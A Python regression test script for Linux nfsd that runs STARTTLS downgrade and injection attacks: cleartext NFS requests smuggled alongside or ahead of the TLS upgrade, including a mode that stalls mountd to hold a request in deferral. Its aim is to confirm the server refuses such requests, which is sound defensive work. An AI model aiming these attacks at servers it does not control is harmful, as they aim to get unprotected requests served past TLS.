#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Cleartext requests around a STARTTLS, against nfsd (issue 15 finding 2).

A request must be judged by how its bytes arrived, and STARTTLS must not
be granted while a cleartext request of the same connection is in flight
or waiting in a cache deferral.  Two attacks, each printing one JSON line:

  race.py inject SERVER PATH --ca CA
      Probe and a cleartext NFSv4 COMPOUND (PUTROOTFH, LOOKUP PATH...,
      GETFH) in one TCP write, as an on-path attacker would append it to a
      client's probe; then the TLS handshake if STARTTLS came.  Reports
      whether STARTTLS came, whether TLS came up, and the COMPOUND's
      status and whether it came in clear or through TLS.

  race.py partial SERVER PATH --ca CA [--tries N]
      N times: the probe and the first bytes of a cleartext COMPOUND
      record in one TCP write; if TLS comes up, the rest of that record
      through TLS.  A server that read the head in clear before the
      handshake and let decrypted bytes complete it would serve a
      request whose first bytes no TLS session protected.  Reports how
      each try ended: served (over TLS: the failure), handshake refused
      or failed, no STARTTLS.

  race.py probe SERVER PORT PROG VERS
      Only the AUTH_TLS probe, to any RPC service: prints whether it
      answered STARTTLS (only nfsd should; not lockd, not the NFSv4.0
      callback service).

  race.py deferred SERVER PATH --ca CA --mountd-pid PID --flush CMD [--wait S]
      MOUNT PATH (its file handle), flush nfsd's caches (CMD), stop
      mountd, send an NFSv3 GETATTR of that handle in clear (it waits for
      mountd, then nfsd defers it), S seconds later (7: deferred by then;
      under 5: still in flight) send the probe; if STARTTLS comes,
      start TLS; resume mountd and read the GETATTR's answer.  Reports
      the same fields.

A safe server answers the COMPOUND/GETATTR with NFS4ERR_WRONGSEC or an
AUTH_TOOWEAK denial (in clear), or refuses STARTTLS or the handshake; it
never answers it with success.
"""
import argparse
import json
import os
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "pynfs-tls"))
import nfs  # noqa: E402
import rpc  # noqa: E402
import tlsio  # noqa: E402

PROBE_XID, REQ_XID, MNT_XID, PMAP_XID = 0x7e570001, 0x7e570002, 0x7e570003, 0x7e570004


def read_replies(conn, want, timeout):
    """Replies by xid until every xid in want is seen or timeout/closed."""
    got = {}
    deadline = time.monotonic() + timeout
    while want - set(got) and time.monotonic() < deadline:
        try:
            rec = conn.recv_record(deadline - time.monotonic())
        except (tlsio.Closed, rpc.RecordError) as e:
            got.setdefault("closed", str(e))
            break
        if rpc.msg_type(rec) != rpc.REPLY:
            continue
        r = rpc.decode_reply(rec)
        got[r.xid] = r
    return got


def describe_req(r, v4):
    """(status, text) of the request's reply: the NFS status, or the RPC error."""
    if r.reply_stat != rpc.MSG_ACCEPTED:
        return "denied", r.describe()
    if r.accept_stat != rpc.SUCCESS:
        return "error", r.describe()
    if v4:
        c = nfs.decode_compound(r.results)
        return c.status, nfs.status4_name(c.status)
    st, _ = nfs.decode_v3_getattr(r.results)
    return st, "nfsstat3 %d" % st


def tls_up(conn, args, out):
    ctx = tlsio.client_context(cafile=args.ca)
    try:
        conn.start_tls(ctx, server_hostname=args.server, timeout=20)
        out["tls"] = "ok"
        return True
    except tlsio.HandshakeError as e:
        out["tls"] = "failed: %s %s" % (e.how, e.detail)
        return False


def probe_result(got, out):
    p = got.get(PROBE_XID)
    out["starttls"] = bool(p) and rpc.probe_verdict(p)[0] == "starttls"
    out["probe"] = p.describe() if p else got.get("closed", "no answer")


def inject(args):
    out = {"mode": "inject", "tls": "not tried", "req": None, "req_via": None}
    conn = tlsio.Conn.connect(args.server, 2049, timeout=10)
    ops = [nfs.putrootfh()] + nfs.lookup_path(args.path) + [nfs.getfh()]
    # one TCP write: the probe, then the attacker's request behind it
    conn.send_raw(rpc.frame(rpc.encode_probe(PROBE_XID, nfs.NFS_PROGRAM, 4)) +
                  rpc.frame(nfs.compound_call(REQ_XID, ops)))
    got = read_replies(conn, {PROBE_XID}, 10)
    probe_result(got, out)
    if REQ_XID in got:
        out["req"], out["req_text"] = describe_req(got[REQ_XID], True)
        out["req_via"] = "clear"
    if out["starttls"] and tls_up(conn, args, out) and out["req"] is None:
        got = read_replies(conn, {REQ_XID}, 5)
        if REQ_XID in got:
            out["req"], out["req_text"] = describe_req(got[REQ_XID], True)
            out["req_via"] = "tls"
    conn.close()
    return out


def partial(args):
    out = {"mode": "partial", "tries": args.tries, "served": 0,
           "answered": 0, "tls_failed": 0, "no_starttls": 0, "last": "",
           "last_probe": ""}
    ops = [nfs.putrootfh()] + nfs.lookup_path(args.path) + [nfs.getfh()]
    rec = rpc.frame(nfs.compound_call(REQ_XID, ops))
    cut = 12        # record marker, xid, msg_type: a record begun, not ended
    for _ in range(args.tries):
        conn = tlsio.Conn.connect(args.server, 2049, timeout=10)
        try:
            conn.send_raw(rpc.frame(rpc.encode_probe(PROBE_XID, nfs.NFS_PROGRAM, 4)) +
                          rec[:cut])
            one = {}
            probe_result(read_replies(conn, {PROBE_XID}, 10), one)
            if not one["starttls"]:
                out["no_starttls"] += 1
                out["last_probe"] = one["probe"]
                continue
            if not tls_up(conn, args, one):
                out["tls_failed"] += 1
                out["last"] = one["tls"]
                continue
            conn.send(rec[cut:])
            got = read_replies(conn, {REQ_XID}, 5)
            if REQ_XID not in got:
                # nothing: the server did not take the tail for a record
                out["tls_failed"] += 1
                out["last"] = "no answer through TLS: %s" % got.get("closed", "timeout")
                continue
            st, text = describe_req(got[REQ_XID], True)
            out["answered"] += 1
            out["last"] = text
            if st == 0:
                out["served"] += 1
        except tlsio.Closed as e:
            out["tls_failed"] += 1
            out["last"] = "%s %s" % (e.how, e.detail)
        finally:
            conn.close()
    return out


def mount_fh(args):
    pm = tlsio.Conn.connect(args.server, 111, timeout=10)
    port = nfs.decode_getport(pm.call(nfs.getport_call(PMAP_XID, nfs.MOUNT_PROGRAM, 3)).results)
    pm.close()
    m = tlsio.Conn.connect(args.server, port, timeout=10, privileged=True)
    st, fh, _ = nfs.decode_mnt(m.call(nfs.mnt_call(MNT_XID, args.path)).results)
    m.close()
    if st != 0:
        raise SystemExit("MNT %s: mountstat3 %d" % (args.path, st))
    return fh


def deferred(args):
    out = {"mode": "deferred", "tls": "not tried", "req": None, "req_via": None}
    fh = mount_fh(args)
    conn = tlsio.Conn.connect(args.server, 2049, timeout=10, privileged=True)
    subprocess.run(args.flush, shell=True, check=True)
    os.kill(args.mountd_pid, signal.SIGSTOP)
    try:
        conn.send_record(nfs.v3_getattr_call(REQ_XID, fh))
        # nfsd's thread waits up to 5 s for mountd, then defers the request
        time.sleep(args.wait)
        conn.send_record(rpc.encode_probe(PROBE_XID, nfs.NFS_PROGRAM, 3))
        got = read_replies(conn, {PROBE_XID}, 10)
        probe_result(got, out)
        if REQ_XID in got:
            out["req"], out["req_text"] = describe_req(got[REQ_XID], False)
            out["req_via"] = "clear"
        if out["starttls"]:
            tls_up(conn, args, out)
    finally:
        os.kill(args.mountd_pid, signal.SIGCONT)
    if out["req"] is None and out["tls"] in ("ok", "not tried"):
        got = read_replies(conn, {REQ_XID}, 20)
        if REQ_XID in got:
            out["req"], out["req_text"] = describe_req(got[REQ_XID], False)
            out["req_via"] = "tls" if conn.tls is not None else "clear"
    conn.close()
    return out


def probe(argv):
    host, port, prog, vers = argv[0], int(argv[1]), int(argv[2]), int(argv[3])
    out = {"mode": "probe", "port": port, "prog": prog}
    conn = tlsio.Conn.connect(host, port, timeout=10)
    probe_result(read_replies_after(conn, rpc.encode_probe(PROBE_XID, prog, vers)), out)
    conn.close()
    return out


def read_replies_after(conn, msg):
    conn.send_record(msg)
    return read_replies(conn, {PROBE_XID}, 10)


def main():
    if len(sys.argv) == 6 and sys.argv[1] == "probe":
        print(json.dumps(probe(sys.argv[2:]), sort_keys=True))
        return
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("mode", choices=("inject", "deferred", "partial"))
    ap.add_argument("server")
    ap.add_argument("path")
    ap.add_argument("--ca", required=True)
    ap.add_argument("--mountd-pid", type=int)
    ap.add_argument("--flush", default="true")
    ap.add_argument("--wait", type=float, default=7.0)
    ap.add_argument("--tries", type=int, default=40)
    args = ap.parse_args()
    out = {"inject": inject, "deferred": deferred, "partial": partial}[args.mode](args)
    print(json.dumps(out, sort_keys=True))


if __name__ == "__main__":
    main()
